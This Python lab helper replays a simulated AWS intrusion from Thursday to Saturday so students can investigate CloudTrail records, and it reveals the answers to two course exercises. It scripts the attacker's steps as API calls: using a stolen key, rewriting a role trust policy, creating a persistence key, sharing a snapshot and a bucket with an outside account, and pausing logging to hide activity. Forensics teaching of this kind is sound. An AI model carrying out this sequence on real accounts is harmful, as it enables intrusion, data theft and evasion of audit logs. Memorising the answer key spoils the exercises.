"""The incident of part 6, as real calls: from a stolen key on Thursday to 02:14 on Saturday, with the work in between.

This code gives away the answers to exercises W.11 and W.12.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import TYPE_CHECKING, Any

from botocore.exceptions import ClientError

from labs_helpers.course.lesson.delivered_records import delivered
from labs_helpers.course.shown.counted import counted
from labs_helpers.course.shown.mistakes import checked
from labs_helpers.course.situations.identity_clients import account_keys, client_as

if TYPE_CHECKING:
    from labs_helpers.cloud import Cloud

MALLORY, LEDGER = "999988887777", "444455556666"
EXTERNAL_ID = "larkspur-7f3e"
_THIEF, _OFFICE, _LEDGERS_OFFICE = "198.51.100.66", "203.0.113.20", "192.0.2.44"
_STOCK, _BOOKS = "larkspur-stock", "larkspur-books"
_TWELVE_HOURS = 43_200
_FRIDAY = 4
Keys = Mapping[str, Any]


@dataclass
class _Kept:
    """The resources that the incident created, kept for the checks. A reset of the cloud drops them."""

    ids: dict[str, Any] = field(default_factory=dict)
    begins: str = ""
    """The time from which the trail's records belong to the incident."""


def prepare(cloud: Cloud) -> dict[str, Any]:
    """Return `incident`: what the attacker used and created. Plays the incident first if it hasn't been played yet."""
    kept = cloud.part(_Kept)
    if not kept.ids:
        incident = _Incident(cloud)
        kept.ids = incident.play()
        kept.begins = incident.begins
    return {"incident": kept.ids}


@checked
def night(cloud: Cloud) -> list[dict[str, Any]]:
    """Play what happened from Thursday to Saturday, unless it has already been played, and return its records.

    Afterward, the lab clock shows Saturday, 07:30.
    """
    until = prepare(cloud)["incident"]["now"]
    trails = cloud.account(cloud.home).client("cloudtrail").describe_trails()["trailList"]
    records = delivered(cloud, str(trails[0]["S3BucketName"]))
    found = [record for record in records if cloud.part(_Kept).begins <= record["eventTime"] < until]
    print(
        f"{cloud.clock.now():%A, %H:%M}. The trail has {counted(len(found), 'record')} of the last few days."
    )
    return found


class _Incident:
    def __init__(self, cloud: Cloud) -> None:
        self._cloud = cloud
        self._admin = account_keys(cloud, cloud.home)
        self._trail = self._logs = self.begins = ""

    def play(self) -> dict[str, Any]:
        """Play everything, and return what the attacker used and created."""
        self._open_trail()
        with self._cloud.record.aside():  # not recorded, because it was built years ago
            ids = self._build()
        self._cloud.profile("mallory", account_keys(self._cloud, MALLORY))
        self._cloud.profile("ledger", account_keys(self._cloud, LEDGER))
        thursday = _next_thursday(self._cloud.clock.now())
        self.begins = f"{thursday:%Y-%m-%dT}23:00:00Z"
        self._thursday(thursday, ids)
        self._friday(thursday + timedelta(days=1), ids)
        self._saturday(thursday + timedelta(days=2), ids)
        return ids

    def _open_trail(self) -> None:
        """Find the day's trail, or create it, for checks without an open day."""
        from labs_helpers.cloud import open_trail

        trails = self._call(self._admin, "cloudtrail", "describe_trails")["trailList"]
        if not trails:
            open_trail(self._cloud, f"course-trail-{self._cloud.home}", "course")
            trails = self._call(self._admin, "cloudtrail", "describe_trails")["trailList"]
        self._trail, self._logs = str(trails[0]["TrailARN"]), str(trails[0]["S3BucketName"])

    def _build(self) -> dict[str, Any]:
        """Create the old resources: an administrator, two programs' users, two roles, two buckets, and a snapshot."""
        home = self._cloud.home
        for bucket, key in ((_STOCK, "stock.csv"), (_BOOKS, "2026-11.csv")):
            self._make("s3", "create_bucket", Bucket=bucket)
            self._make("s3", "put_object", Bucket=bucket, Key=key, Body=b"seeds")
        self._user("lars", [_allow("*", "*")])
        later = _allow("sts:AssumeRole", "*")
        stolen = self._user("stock-report", [_allow("s3:GetObject", f"arn:aws:s3:::{_STOCK}/*"), later])
        self._user("books-export", [_allow("s3:GetObject", f"arn:aws:s3:::{_BOOKS}/*")])
        trusted = {
            "Effect": "Allow",
            "Principal": {"AWS": f"arn:aws:iam::{home}:root"},
            "Action": "sts:AssumeRole",
        }
        self._role("old-deploy", trusted, _allow("*", "*"))
        condition = {"StringEquals": {"sts:ExternalId": EXTERNAL_ID}}
        partner = {**trusted, "Principal": {"AWS": f"arn:aws:iam::{LEDGER}:root"}, "Condition": condition}
        self._role("ledger-audit", partner, _allow("s3:GetObject", f"arn:aws:s3:::{_BOOKS}/*"))
        volume = self._make("ec2", "create_volume", AvailabilityZone="us-east-1a", Size=8)["VolumeId"]
        snapshot = self._make(
            "ec2", "create_snapshot", VolumeId=volume, Description="the old shop's customers"
        )
        self._cloud.profile("thief-key", stolen)
        return {
            "stolen_key": stolen["AccessKeyId"], "snapshot": snapshot["SnapshotId"], "trust": _document(partner)
        }  # fmt: skip

    def _thursday(self, day: datetime, ids: dict[str, Any]) -> None:
        """Try the stolen key as the attacker. The key leads to a role that is allowed to do everything."""
        key = self._cloud.keys("thief-key") or {}
        self._at(day, 23, 37)
        self._steal(key, "sts", "get_caller_identity")
        self._steal(key, "s3", "list_buckets")
        self._steal(key, "iam", "list_users")
        self._at(day, 23, 41)
        session = self._session(key)
        self._steal(session, "iam", "list_roles")
        self._at(day, 23, 52)
        outsider = {
            "Effect": "Allow",
            "Principal": {"AWS": [f"arn:aws:iam::{LEDGER}:root", f"arn:aws:iam::{MALLORY}:root"]},
            "Action": "sts:AssumeRole",
        }
        self._steal(
            session, "iam", "update_assume_role_policy",
            RoleName="ledger-audit", PolicyDocument=_document(outsider),
        )  # fmt: skip

    def _friday(self, day: datetime, ids: dict[str, Any]) -> None:
        """Play an ordinary workday, and a visit from another account in the evening."""
        self._work(day, 1)
        self._at(day, 9, 12)
        lars = self._cloud.keys("lars") or {}
        for service, call in (
            ("iam", "list_users"),
            ("cloudtrail", "describe_trails"),
            ("iam", "list_roles"),
        ):
            self._call_from(_OFFICE, lars, service, call)
        self._at(day, 10, 3)
        self._audit(account_keys(self._cloud, LEDGER), _LEDGERS_OFFICE, "november")
        self._at(day, 22, 5)
        self._audit(account_keys(self._cloud, MALLORY), _THIEF, "november")

    def _audit(self, keys: Keys, address: str, name: str) -> None:
        role = f"arn:aws:iam::{self._cloud.home}:role/ledger-audit"
        given = {"RoleArn": role, "RoleSessionName": name, "ExternalId": EXTERNAL_ID}
        session = self._call_from(address, keys, "sts", "assume_role", **given)["Credentials"]
        self._call_from(address, session, "s3", "get_object", Bucket=_BOOKS, Key="2026-11.csv")

    def _saturday(self, day: datetime, ids: dict[str, Any]) -> None:
        """Create a key for returning later, share a snapshot, and open a bucket during a gap in the trail."""
        self._work(day, 1)
        self._at(day, 1, 58)
        session = self._session(self._cloud.keys("thief-key") or {})
        ids["last_session"] = f"{self._cloud.clock.now():%Y-%m-%dT%H:%M:%SZ}"
        made = self._steal(session, "iam", "create_access_key", UserName="books-export")["AccessKey"]
        self._cloud.profile("thief-new-key", made)
        self._cloud.profile("thief-session", session)
        ids["new_key"] = made["AccessKeyId"]
        self._at(day, 2, 3)
        added = {"Add": [{"UserId": MALLORY}]}
        self._steal(
            session, "ec2", "modify_snapshot_attribute",
            SnapshotId=ids["snapshot"], Attribute="createVolumePermission", CreateVolumePermission=added,
        )  # fmt: skip
        self._at(day, 2, 14)
        self._steal(session, "cloudtrail", "stop_logging", Name=self._trail)
        self._at(day, 2, 20)
        statement = {
            "Effect": "Allow",
            "Principal": {"AWS": MALLORY},
            "Action": "s3:*",
            "Resource": [f"arn:aws:s3:::{_STOCK}", f"arn:aws:s3:::{_STOCK}/*"],
        }
        self._steal(session, "s3", "put_bucket_policy", Bucket=_STOCK, Policy=_document(statement))
        self._at(day, 2, 31)
        self._steal(session, "cloudtrail", "start_logging", Name=self._trail)
        ids["left"] = f"{self._cloud.clock.now():%Y-%m-%dT%H:%M:%SZ}"
        self._at(day, 7, 30)
        ids["now"] = f"{self._cloud.clock.now():%Y-%m-%dT%H:%M:%SZ}"
        self._make("s3", "list_objects_v2", Bucket=self._logs, MaxKeys=1)

    def _work(self, day: datetime, hour: int) -> None:
        """Read the program's file, as the program does every night."""
        self._at(day, hour, 0)
        key = self._cloud.keys("thief-key") or {}
        self._call_from(_OFFICE, key, "sts", "get_caller_identity")
        self._call_from(_OFFICE, key, "s3", "get_object", Bucket=_STOCK, Key="stock.csv")

    def _session(self, key: Keys) -> Keys:
        role = f"arn:aws:iam::{self._cloud.home}:role/old-deploy"
        given = {"RoleArn": role, "RoleSessionName": "tom", "DurationSeconds": _TWELVE_HOURS}
        return dict(self._steal(key, "sts", "assume_role", **given)["Credentials"])

    def _user(self, name: str, statements: list[dict[str, Any]]) -> Keys:
        self._make("iam", "create_user", UserName=name)
        self._make(
            "iam", "put_user_policy", UserName=name, PolicyName="Work", PolicyDocument=_document(*statements)
        )
        key: Keys = self._make("iam", "create_access_key", UserName=name)["AccessKey"]
        self._cloud.profile(name, key)
        return key

    def _role(self, name: str, trust: dict[str, Any], allowed: dict[str, Any]) -> None:
        self._make(
            "iam", "create_role", RoleName=name, AssumeRolePolicyDocument=_document(trust),
            MaxSessionDuration=_TWELVE_HOURS,
        )  # fmt: skip
        self._make(
            "iam", "put_role_policy", RoleName=name, PolicyName="Work", PolicyDocument=_document(allowed)
        )

    def _at(self, day: datetime, hour: int, minute: int) -> None:
        """Move the lab clock to a time on a day."""
        then = day.replace(hour=hour, minute=minute)
        self._cloud.clock.advance(seconds=max((then - self._cloud.clock.now()).total_seconds(), 0))

    def _make(self, service: str, call: str, **given: Any) -> Any:
        return self._call(self._admin, service, call, **given)

    def _steal(self, keys: Keys, service: str, call: str, **given: Any) -> Any:
        """Make a call from the attacker's address. A denied call is part of the incident."""
        try:
            return self._call_from(_THIEF, keys, service, call, **given)
        except ClientError as error:
            if error.response["Error"]["Code"] not in ("AccessDenied", "AccessDeniedException"):
                raise
            return {}

    def _call_from(self, address: str, keys: Keys, service: str, call: str, **given: Any) -> Any:
        with self._cloud.calling_from(address):
            return self._call(keys, service, call, **given)

    def _call(self, keys: Keys, service: str, call: str, **given: Any) -> Any:
        return getattr(client_as(self._cloud, keys, service, "us-east-1"), call)(**given)


def _next_thursday(now: datetime) -> datetime:
    """Return the beginning of the next Thursday whose evening is still to come."""
    days = (_FRIDAY - 1 - now.weekday()) % 7
    thursday = (now + timedelta(days=days)).replace(hour=0, minute=0, second=0, microsecond=0)
    return thursday if now < thursday.replace(hour=23) else thursday + timedelta(days=7)


def _allow(action: str, resource: str) -> dict[str, Any]:
    return {"Effect": "Allow", "Action": action, "Resource": resource}


def _document(*statements: dict[str, Any]) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})
